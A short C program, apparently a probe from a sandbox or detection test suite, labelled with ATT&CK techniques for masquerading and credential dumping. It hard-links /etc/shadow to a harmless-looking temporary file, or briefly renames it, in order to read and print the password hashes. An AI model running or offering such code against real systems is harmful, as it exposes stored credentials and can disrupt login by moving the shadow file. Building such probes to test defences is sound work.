/* T1036.003, T1003.008: gives the hashes another name by a hard link, reads them by that, and takes it away again.
 * aim: secrets */
#include "lib.h"

int main(void)
{
    char text[512];
    int32_t linked = CALL(LINKAT, AT_FDCWD, "/etc/shadow", AT_FDCWD, "/tmp/notes.txt", 0);
    int32_t size = read_file("/tmp/notes.txt", text, sizeof text);
    if (size > 0)
        print_bytes(text, (uint32_t)size);
    CALL(UNLINKAT, AT_FDCWD, "/tmp/notes.txt", 0);
    if (linked < 0 && CALL(RENAMEAT2, AT_FDCWD, "/etc/shadow", AT_FDCWD, "/tmp/old", 0) == 0) {
        size = read_file("/tmp/old", text, sizeof text);
        CALL(RENAMEAT2, AT_FDCWD, "/tmp/old", AT_FDCWD, "/etc/shadow", 0);
        if (size > 0)
            print_bytes(text, (uint32_t)size);
    }
    print(size > 0 ? "done\n" : "no\n");
    return size <= 0;
}
